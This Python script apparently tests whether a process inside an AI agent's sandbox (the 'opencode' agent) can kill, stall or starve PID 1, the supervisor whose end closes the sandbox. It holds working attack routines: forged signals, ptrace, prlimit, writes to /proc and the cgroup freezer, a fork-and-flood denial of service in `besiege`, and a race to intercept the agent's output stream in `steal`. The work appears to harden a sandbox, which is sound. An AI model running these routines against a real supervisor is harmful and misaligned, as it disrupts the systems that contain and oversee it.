"""Attempts on PID 1, which ends the sandbox. `probe` prints one line for each; `besiege` stays, deaf to
signals, with the processors, the pipes and the tables full."""
import ctypes, errno, os, platform, signal, socket, struct, subprocess, sys, time

RT_SIGQUEUEINFO = {"x86_64": 129, "aarch64": 138}[platform.machine()]

libc = ctypes.CDLL(None, use_errno=True)


def outcome(name, attempt):
    try:
        got = attempt()
    except (OSError, ValueError):
        print(f"{name}: denied")
    else:
        print(f"{name}: GOT THROUGH {got}")


def call(number, *args):
    if libc.syscall(number, *args) < 0:
        raise OSError(ctypes.get_errno(), number)


def traced():
    if libc.ptrace(16, 1, 0, 0) < 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")


def tool(*command):
    if subprocess.run(command, capture_output=True).returncode:
        raise OSError(errno.EPERM, command)


def state():
    fields = open("/proc/1/stat").read().rsplit(") ", 1)[1].split()
    return fields[0], fields[16], fields[14]  # state, nice, priority


def agent():
    """The agent's own process: its standard streams are those of PID 1, but for stdin."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if pid != "1" and b"opencode" in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")[0]:
                return pid
        except OSError:
            pass
    raise SystemExit("no agent")


def probe():
    before = state()
    # Signals may be sent by the same user; what counts is that nothing comes of them.
    for number in range(1, 65):
        try:
            os.kill(1, number)
        except OSError:
            pass
    descriptor = os.pidfd_open(1)
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGTSTP):
        signal.pidfd_send_signal(descriptor, number)
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        libc.sigqueue(1, number, 0)
        libc.tgkill(1, 1, number)
        # As if from outside: with a negative code the kernel takes the sender that is written there.
        for code in (-1, -2, -60, 0, 128):
            forged = struct.pack("iii4xii104x", number, 0, code, 0, 0)
            libc.syscall(RT_SIGQUEUEINFO, 1, number, forged)
    time.sleep(0.5)
    after = state()
    print(f"after all signals: stopped {after[0] in 'TtZX'}, nice changed {before[1] != after[1]}")
    outcome("renice", lambda: tool("renice", "-n", "19", "-p", "1"))
    outcome("renice of the user", lambda: tool("renice", "-n", "19", "-u", str(os.getuid())))
    outcome("ionice", lambda: tool("ionice", "-c", "3", "-p", "1"))
    outcome("idle scheduling", lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)))
    outcome("limits", lambda: __import__("resource").prlimit(1, 7, (0, 0)))
    outcome("processor time", lambda: __import__("resource").prlimit(1, 0, (1, 1)))
    outcome("trace", lambda: traced())
    for name in ("fd/0", "fd/1", "fd/2", "mem", "environ", "maps", "root", "cwd", "exe", "ns/pid", "task/1/mem",
                 "task/1/fd/0", "pagemap", "syscall", "stack"):
        outcome(f"open {name}", lambda: os.open(f"/proc/1/{name}", os.O_RDONLY))
    for name in ("oom_score_adj", "oom_adj", "clear_refs", "coredump_filter", "mem", "comm", "sched", "autogroup"):
        outcome(f"write {name}", lambda: os.open(f"/proc/1/{name}", os.O_WRONLY))
    outcome("steal its input", lambda: os.readlink("/proc/1/fd/0"))
    outcome("take a descriptor", lambda: call(438, descriptor, 0, 0))
    outcome("freeze", lambda: open("/sys/fs/cgroup/cgroup.freeze", "w"))
    outcome("freeze by version 1", lambda: open("/sys/fs/cgroup/freezer/freezer.state", "w"))
    own = os.readlink(f"/proc/{agent()}/fd/0")
    print(f"the agent's input is not that of PID 1: {'memfd' in own}")
    scores = [int(open(f"/proc/{pid}/oom_score_adj").read()) for pid in ("1", "self")]
    print(f"the agent goes before PID 1 when memory is short: {scores[1] > scores[0]}")
    outcome("swap these places", lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-500"))


def besiege():
    for number in set(range(1, 65)) - {9, 19, 32, 33}:
        signal.signal(number, signal.SIG_IGN)
    streams = [os.open(f"/proc/{agent()}/fd/{n}", os.O_WRONLY) for n in (1, 2)]
    for stream in streams:
        if os.fork() == 0:
            os.setsid()
            while True:
                os.write(stream, b"flood " * 10000)
    for _ in range(os.cpu_count() * 4):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    if os.fork() == 0:
        os.setsid()
        while True:
            os.kill(1, signal.SIGSTOP)
            os.kill(1, signal.SIGCHLD)
            os.kill(1, signal.SIGTERM)
    if os.fork() == 0:
        while True:  # a storm of orphans that PID 1 has to reap
            if os.fork() == 0:
                if os.fork() == 0:
                    os._exit(0)
                os._exit(0)
            try:
                os.waitpid(-1, os.WNOHANG)
            except OSError:
                pass
    open("besieged", "w").close()
    while True:
        time.sleep(1)


def answers():
    """PID 1 carries a connection, so it does not wait for anything else."""
    with socket.create_connection(("127.0.0.1", 4141), 1) as client:
        client.settimeout(1)
        client.sendall(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n")
        try:
            return bool(client.recv(1))
        except TimeoutError:
            return False


def steal():
    """Writes to the agent's stream and reads it back before PID 1 does, which saw that something is there."""
    ends = [os.open(f"/proc/{agent()}/fd/1", flags) for flags in (os.O_WRONLY, os.O_RDONLY | os.O_NONBLOCK)]
    for _ in range(2):
        if os.fork() == 0:
            while True:
                try:
                    os.read(ends[1], 1 << 16)
                except BlockingIOError:
                    pass
    for _ in range(40):
        for _ in range(200):
            os.write(ends[0], b"x")
            time.sleep(0.0005)
        if not answers():
            break
    open("besieged", "w").close()
    time.sleep(1000)


{"probe": probe, "besiege": besiege, "steal": steal}[sys.argv[1]]()
